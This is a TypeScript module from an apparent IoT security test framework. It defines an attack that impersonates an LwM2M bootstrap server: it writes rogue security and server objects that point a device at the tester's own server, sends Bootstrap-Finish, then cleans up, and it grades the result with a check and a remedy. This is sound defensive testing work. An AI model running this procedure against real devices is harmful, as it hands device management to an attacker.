import { z } from "zod";
import { defineAttack } from "#contract/attack.ts";
import type { Bench } from "#contract/bench.ts";
import { judgeLaunches } from "#contract/judging.ts";
import { duration } from "#contract/parameters.ts";
import { code } from "#simulator/coap/code.ts";
import { type TlvEntry, writeTlv } from "#simulator/coap/lwm2m-tlv.ts";
import { contentFormat, option, optionNumber } from "#simulator/coap/option.ts";
import { type Asker } from "./parts/access-asker.ts";
import { attackersOf } from "./parts/access-attackers.ts";
import { judgePursuits } from "./parts/access-judging.ts";
import { pursue, pursuitsOf } from "./parts/access-pursuit.ts";
import { wasTaken } from "./parts/access-reply.ts";
import { mustServe } from "./parts/access-serving.ts";
import { mustReadObjects } from "./parts/lwm2m-serving.ts";
import { type Origin, openOrigin } from "./parts/proxy-origin.ts";

const id = "coap.lwm2m-bootstrap";

export const lwm2mBootstrap = defineAttack({
  id,
  title: "Move an LwM2M device to a server of one's own, as if one were its bootstrap server",
  speaks: "coap",
  severity: "critical",
  layer: "application",
  explains: `A stranger, and a device with a key of its own where there is DTLS, plays the bootstrap server: it writes a new instance
of the security object that names a server of the attack, a new instance of the server object, and says that the
bootstrap is over (POST /bs). Nothing that the device has is written over or deleted, and the new instances are deleted
in the end.
bootstrap-takes-the-right-server fails where a write was answered with success, or the device called the attack's server.
The control: the operator reads /3/0/0.`,
  references: {
    cwe: ["CWE-345", "CWE-306"],
    attack: ["T1557", "T0848", "T1693.001"],
    owasp: ["I3", "I4"],
    clauses: ["LwM2M Core 1.2 §6.1", "LwM2M Core 1.2 E.1"],
    cases: ["LW-01"],
  },
  parameters: z.strictObject({
    window: duration({ atLeast: "100ms", atMost: "10s" }).prefault("1s").describe("how long an answer is waited for"),
  }),
  needs: [],
  strains: false,
  atMostMs: ({ window }) => 30 * window + 15_000,

  control: (bench, ground, { window }) => mustReadObjects(bench, ground, window),

  async launch(bench, ground, { window }) {
    if (ground.resources?.lwm2m === undefined) return;
    await using origin = await openOrigin(bench, ground.at, () => ({ payload: "" }));
    for (const open of attackersOf(bench, ground)) {
      await using rogue = await open();
      await bootstrap({ bench, rogue, origin, withinMs: window });
    }
  },

  recovery: (bench, ground, { window }) => mustServe(bench, ground, window),

  checks: [
    {
      id: "bootstrap-takes-the-right-server",
      asks: "Does an LwM2M device take a new server from nobody but its bootstrap server?",
      covers: "P3.1/peer-verification",
      remedy:
        "Take writes to objects 0 and 1 and Bootstrap-Finish only in a session with the bootstrap server account, by its credential, and only while a bootstrap is under way. Then run this again: every write must be refused.",
      needs: [id],
      judge: (record) =>
        judgeLaunches(record, id, ({ during }) =>
          judgePursuits(pursuitsOf(during.attack, ["bootstrap"]), {
            did: "the device took a server from a stranger to it",
            held: "steps of a false bootstrap were refused",
            untried: "nobody knows of LwM2M objects here",
          }),
        ),
    },
  ],
  twins: [
    { kills: "bootstrap-takes-the-right-server", loosen: { where: "coap-server", knob: "lwBootstrap", value: "open" } },
  ],
});

interface Stage {
  readonly bench: Bench;
  readonly rogue: Asker;
  readonly origin: Origin;
  readonly withinMs: number;
}

async function bootstrap({ bench, rogue, origin, withinMs }: Stage): Promise<void> {
  // An instance that no device has by itself, so that nothing is lost.
  const instance = bench.random.integer(1_000, 60_000);
  const called = origin.requests.length;
  const { host, port } = origin.local;
  const steps = [
    {
      how: "Write",
      path: `0/${instance}`,
      method: code.put,
      entries: securityEntries(`coap://${host}:${port}`, instance),
    },
    { how: "Write", path: `1/${instance}`, method: code.put, entries: serverEntries(instance) },
    { how: "Bootstrap-Finish", path: "bs", method: code.post, entries: [] },
  ];
  for (const { how, path, method, entries } of steps) {
    const body = entries.length === 0 ? {} : { payload: writeTlv(entries), options: [isTlv] };
    await pursue(
      bench,
      rogue,
      { goal: "bootstrap", how, path },
      { code: method, path, ...body },
      {
        withinMs,
        reached: (reply) => (origin.requests.length > called ? true : wasTaken(reply)),
      },
    );
  }
  for (const path of [`0/${instance}`, `1/${instance}`]) {
    await rogue.ask({ code: code.delete, path }, withinMs).catch(() => {});
  }
}

const isTlv = option(optionNumber.contentFormat, contentFormat.lwm2mTlv);

const resource = (of: number, value: Buffer): TlvEntry => ({ kind: "resource", id: of, value });

/** Server URI, "is no bootstrap server", mode NoSec, short server id (LwM2M Core 1.2 E.1). */
function securityEntries(uri: string, shortId: number): readonly TlvEntry[] {
  return [
    resource(0, Buffer.from(uri)),
    resource(1, Buffer.from([0])),
    resource(2, Buffer.from([3])),
    resource(10, integer(shortId)),
  ];
}

/** Short server id, lifetime, binding UDP (LwM2M Core 1.2 E.2). */
function serverEntries(shortId: number): readonly TlvEntry[] {
  return [resource(0, integer(shortId)), resource(1, integer(86_400)), resource(7, Buffer.from("U"))];
}

/** Four bytes, one of the lengths that TLV has for integers. */
function integer(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeInt32BE(value);
  return bytes;
}
